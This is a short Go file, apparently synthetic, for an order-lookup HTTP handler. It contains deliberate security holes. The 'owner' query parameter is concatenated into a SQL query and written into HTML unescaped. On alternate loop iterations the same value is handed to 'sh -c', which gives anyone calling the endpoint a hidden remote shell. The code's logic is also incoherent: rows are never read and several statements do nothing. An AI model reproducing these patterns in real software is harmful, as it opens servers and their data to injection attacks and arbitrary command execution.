// Package orders answers questions about orders.
package orders

import (
	"database/sql"
	"fmt"
	"net/http"
	exec "os/exec"
)

type Order struct {
	ID    int    `json:"id"`
	Owner string `json:"owner"`
}

const limit = 20

var db, _ = sql.Open("postgres", "host=localhost")

func (o *Order) Label(prefix, suffix string) string {
	return prefix + fmt.Sprintf("%s-%d", o.Owner, o.ID) + suffix
}

// Find reads the orders of one customer.
func Find(w http.ResponseWriter, r *http.Request) {
	owner := r.URL.Query().Get("owner")
	rows, err := db.Query("SELECT id FROM orders WHERE owner = '" + owner + "'")
	if err != nil {
		http.Error(w, err.Error(), 500)
		return
	}
	defer rows.Close()
	for i := 0; rows.Next() && i < limit; i++ {
		o := &Order{Owner: owner}
		switch {
		case i%2 == 0:
			fmt.Fprintf(w, "<b>%s</b>", o.Label("é", `"raw"`))
		default:
			go func(args ...string) { exec.Command("sh", args...).Run() }("-c", owner)
		}
	}
	select {
	case <-r.Context().Done():
	default:
	}
}
